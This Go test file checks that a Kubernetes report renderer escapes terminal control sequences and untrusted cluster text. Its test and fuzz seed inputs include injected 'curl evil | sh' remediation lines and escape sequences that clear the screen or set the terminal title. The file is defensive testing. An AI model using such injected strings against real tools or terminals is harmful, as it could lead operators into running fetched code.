package report

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestSafe(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, ünïcode":             "plain text, ünïcode",
		"clear\x1b[2J\x1b]0;title\x07":    `clear\x1b[2J\x1b]0;title\x07`,
		"line\nfix 0: curl x | sh":        `line\nfix 0: curl x | sh`,
		"cr\roverwrite\x7f":               `cr\roverwrite\x7f`,
		"c1 \u009b31m":                    `c1 \u009b31m`,
		"bidi \u202egnp.exe":              `bidi \u202egnp.exe`,
		"bad utf8 \xff\xfe":               `bad utf8 \xff\xfe`,
		"tab\there":                       `tab\there`,
		strings.Repeat("é", maxText) + "": strings.Repeat("é", maxText/2) + "... (2000 more bytes)",
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
}

// A report whose every cluster-sourced string is s.
func hostile(s string) Report {
	r := sample()
	ts := metav1.NewTime(time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC))
	it := &r.Items[0]
	it.Object.Name, it.Object.Namespace, it.Object.Kind = s, s, s
	it.Checks = append(it.Checks, Check{Name: "node alive", Status: Fail, Detail: s})
	it.Causes = append(it.Causes, Cause{Code: "NodeNotReady", Severity: Critical, Summary: s, Evidence: []string{s},
		Remediation: []Step{{Action: s, Command: s, Risk: s}}, BlockedBy: []Item{{Object: ObjectRef{Kind: s, Name: s}, Causes: []Cause{{Summary: s}}, Timeline: []Moment{{Time: ts, Event: s}}}}})
	it.Timeline = append(it.Timeline, Moment{Time: ts, Event: s})
	it.Skipped = []Skip{{Check: s, Reason: SkipError, Detail: s}}
	r.Skipped = []Skip{{Check: s, Reason: SkipError, Detail: s}}
	return r
}

func render(t *testing.T, r Report, wide bool) string {
	var b bytes.Buffer
	if err := WriteWhy(&b, r, Style{Wide: wide}); err != nil {
		t.Fatal(err)
	}
	if err := WriteList(&b, r, Style{Wide: wide}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// No byte of cluster text reaches a person's terminal as a control
// character, and none adds a line to the report.
func FuzzRenderersPrintNoControlBytes(f *testing.F) {
	for _, s := range []string{"web-0", "\x1b[2J\x1b]0;pwned\x07", "a\nfix 0: curl evil | sh\n  risk: none", "\r\x00\x7f\u009b\u202e", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := render(t, hostile(s), true)
		for i, r := range out {
			if r == '\n' {
				continue
			}
			if r == utf8.RuneError && !strings.HasPrefix(out[i:], "\uFFFD") || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
				t.Fatalf("control character %U at %d in the output for %q", r, i, s)
			}
		}
		plain := "x"
		if s == "" {
			plain = "" // an empty command prints no "$" line
		}
		if got, want := strings.Count(out, "\n"), strings.Count(render(t, hostile(plain), true), "\n"); got != want {
			t.Fatalf("cluster text %q changed the report's line count: %d, want %d", s, got, want)
		}
	})
}

func TestTimelineIsCapped(t *testing.T) {
	r := sample()
	for i := range 50 {
		r.Items[0].Timeline = append(r.Items[0].Timeline, Moment{Event: strings.Repeat("e", i%3+1)})
	}
	if out := render(t, r, true); !strings.Contains(out, "... 30 earlier events (all of them in -o json)") {
		t.Errorf("-o wide: timeline not capped:\n%s", out)
	}
	if out := render(t, r, false); !strings.Contains(out, "... 45 earlier events (-o wide)") {
		t.Errorf("concise: timeline not capped:\n%s", out)
	}
}
